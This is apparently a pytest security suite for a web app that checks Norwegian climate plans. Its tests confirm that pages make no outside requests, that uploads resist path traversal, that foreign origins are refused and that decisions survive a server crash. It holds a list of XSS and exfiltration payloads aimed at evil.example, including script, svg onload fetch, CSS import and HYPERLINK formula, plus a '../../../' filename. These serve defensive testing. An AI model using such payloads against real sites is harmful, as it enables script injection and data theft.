"""What must not happen: a request outside, a lost decision, another's passages, a raw error."""

import time
import urllib.error
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from aligncheck.assess import check
from aligncheck.decisions import DecisionAction
from aligncheck.documents import read_document
from aligncheck.store import PlanRecord, open_store
from tests.app.browser import PATIENCE, Visitor, served
from tests.app.conftest import RAW
from tests.app.term_judge import TermJudge

pytestmark = pytest.mark.slow

EVIL_NAME = 'plan ![x](http://evil.example/n.png) <img src="http://evil.example/n2.png">.pdf'
PAYLOADS = [
    "![x](http://evil.example/a.png) fylkeskommunen skal kutte klimagassutslipp innen 2030",
    '<img src="http://evil.example/b.png"> klimatilpasning skal skje innen 2030 i kommunene',
    "<style>@import url(http://evil.example/c.css)</style> sirkulær økonomi skal styrkes her",
    '<iframe src="http://evil.example/d"></iframe> naturmangfold skal tas vare på innen 2031',
    "[klikk](javascript:alert(1)) private investeringer i grønn næring skal øke innen 2032",
    "www.evil.example http://evil.example/e :red[rødt] $x^2$ innbyggerne skal medvirke i planen",
    '=HYPERLINK("http://evil.example/f","f") smart spesialisering skal prioritere havbruk her',
    "</div></blockquote><script src=http://evil.example/g.js></script> utdanning skal styrkes",
    '"><svg onload=fetch("http://evil.example/h")> god helse og livskvalitet skal fremmes her',
]


def evil_plan(store) -> str:
    """A plan full of payloads, under a name that is one; the id of its check."""
    text = "\n\n".join(f"# Tiltak {line}\n\n{line}." for line in PAYLOADS)
    kept = store.save_file(text.encode(), name="plan.md")
    record = PlanRecord(title=EVIL_NAME, county=EVIL_NAME[:60], plan_type="**fet** <b>x</b>")
    return store.save_assessment(check(read_document(kept), judge=TermJudge()), plan=record)


@pytest.mark.parametrize("marked", ["covered", "weak", "no_evidence"])
def test_no_page_asks_another_machine_for_anything(browser, folder, marked):
    store = open_store(folder)
    id = evil_plan(store)
    paths = ["/", "/wheel", "/connections", "/review", "/compare", "/drafts", "/corpus", "/method"]
    with served(folder) as server:
        person = Visitor(browser, server.url)
        for path in paths if marked == "covered" else ["/"]:
            person.go(
                f"{path}?plan={id}&show={marked}&search=skal&reviewer=%21%5Bx%5D(http://evil.example/r.png)"
            )
            assert not RAW.search(person.text().replace(EVIL_NAME, ""))
            images = person.page.eval_on_selector_all("img", "all => all.map(one => one.src)")
            assert not any("evil" in source for source in images), path
            links = person.page.eval_on_selector_all("a", "all => all.map(one => one.href)")
            assert not any("javascript" in link for link in links), path
        assert person.outside == []
        person.close()


def test_an_evil_name_is_kept_as_a_hash_and_shown_as_text(browser, folder):
    before = {path for path in folder.parent.rglob("*") if "data" not in path.parts[-2:]}
    with served(folder) as server:
        person = Visitor(browser, server.url)
        page = person.go("/?new=1")
        file = {
            "name": "../../../" + EVIL_NAME,
            "mimeType": "application/pdf",
            "buffer": b"%PDF-1.7 x",
        }
        page.locator("input[type=file]").set_input_files(file)
        person.settle()
        page.get_by_role("button", name="Sjekk planen").click()
        page.wait_for_selector("text=Planen kunne ikke sjekkes", timeout=3 * PATIENCE)
        assert person.outside == []
        person.close()
    outside = {path for path in folder.parent.iterdir()} - before - {folder}
    assert not outside
    for path in (folder / "files").iterdir():
        assert len(path.stem) == 64


def test_foreign_origins_hosts_and_writes_are_refused(shared_server):
    def status(path, **headers):
        asked = urllib.request.Request(f"{shared_server.url}{path}", headers=headers)
        try:
            return urllib.request.urlopen(asked, timeout=30).status
        except urllib.error.HTTPError as error:
            return error.code

    socket = {
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }
    assert status("/_stcore/stream", Origin="http://evil.example", **socket) == 403
    assert status("/_stcore/stream", Host="evil.example", **socket) == 403
    put = urllib.request.Request(
        f"{shared_server.url}/_stcore/upload_file/a/b", data=b"x", method="PUT"
    )
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(put, timeout=30)
    assert refused.value.code in {400, 403}


def test_a_decision_made_in_one_tab_is_seen_in_the_other(browser, folder):
    id = open_store(folder).assessments()[0].id
    with served(folder) as server:
        tabs = [Visitor(browser, server.url) for _ in range(2)]
        for tab in tabs:
            tab.go(f"/review?plan={id}&what=evidence&reviewer=Kari")
        for tab in tabs:
            tab.press("Godta")
        tabs[0].page.reload()
        tabs[0].page.wait_for_selector("text=vurdert av deg")
        for tab in tabs:
            tab.close()
    kept = open_store(folder).decisions(id)
    assert len(kept) == 2


@pytest.mark.parametrize("rounds", [3, pytest.param(20, marks=pytest.mark.slow)])
def test_no_decision_is_lost_when_the_server_is_killed(browser, folder, rounds):
    """What the screen has shown as saved is in the store, whenever the server dies."""
    store = open_store(folder)
    id = store.assessments()[0].id
    shown = 0
    for number in range(rounds):
        with served(folder) as server:
            person = Visitor(browser, server.url)
            person.go(f"/review?plan={id}&what=evidence&reviewer=Kari{number}")
            person.press("Godta")
            person.page.wait_for_selector("text=1 av")
            shown += 1
            person.page.get_by_role("button", name="Avvis").click(no_wait_after=True)
            time.sleep(0.02 * number)
            server.kill()
            person.close()
        kept = store.decisions(id)
        accepted = [item for item in kept if item.action is DecisionAction.ACCEPT]
        assert len(accepted) == shown
        assert len(kept) <= 2 * shown


def marker_plan(word: str) -> bytes:
    lines = [
        f"Fylkeskommunen skal kutte klimagassutslipp med {word} prosjekter innen 2030.",
        f"Vi skal styrke sirkulær økonomi og {word} i alle kommuner innen 2031 for 4 mill. kr.",
    ]
    return "\n\n".join(["# Tiltak", *lines]).encode()


def upload_many(url: str, session: int, uploads: int) -> list[str]:
    """One person's uploads, one after another; the markers of others that were seen."""
    from playwright.sync_api import sync_playwright

    from tests.app.browser import CHROMIUM, FLAGS

    foreign = []
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS)
        person = Visitor(opened, url)
        for number in range(uploads):
            word = f"merke{session}x{number}y"
            page = person.go("/?new=1")
            file = {"name": f"{word}.md", "mimeType": "text/markdown", "buffer": marker_plan(word)}
            page.locator("input[type=file]").set_input_files(file)
            person.settle()
            page.get_by_role("button", name="Sjekk planen").click()
            page.wait_for_selector("text=Planen dekker", timeout=10 * PATIENCE)
            quotes = " ".join(page.locator(".quote").all_inner_texts())
            if "merke" in quotes.replace(word, ""):
                foreign.append(word)
        opened.close()
    return foreign


@pytest.mark.parametrize(
    ("sessions", "uploads"), [(2, 2), pytest.param(10, 5, marks=pytest.mark.slow)]
)
def test_many_uploads_at_once_come_out_right_and_apart(browser, folder, sessions, uploads):
    del browser  # skips where there is none; each thread opens its own
    before = len(open_store(folder).assessments())
    with served(folder) as server, ThreadPoolExecutor(sessions) as people:
        asked = [
            people.submit(upload_many, server.url, number, uploads) for number in range(sessions)
        ]
        foreign = [word for answer in asked for word in answer.result()]
    assert foreign == []
    assert len(open_store(folder).assessments()) == before + sessions * uploads


def test_the_log_holds_no_text_of_documents(browser, folder):
    word = "hemmeligmerke"
    with served(folder) as server:
        person = Visitor(browser, server.url)
        page = person.go("/?new=1")
        file = {"name": f"{word}.md", "mimeType": "text/markdown", "buffer": marker_plan(word)}
        page.locator("input[type=file]").set_input_files(file)
        person.settle()
        page.get_by_role("button", name="Sjekk planen").click()
        page.wait_for_selector("text=Planen dekker", timeout=6 * PATIENCE)
        person.close()
        assert word not in server.log()


def test_files_of_the_store_are_the_users_own(folder):
    assert (Path(folder) / "aligncheck.sqlite3").stat().st_mode & 0o077 == 0
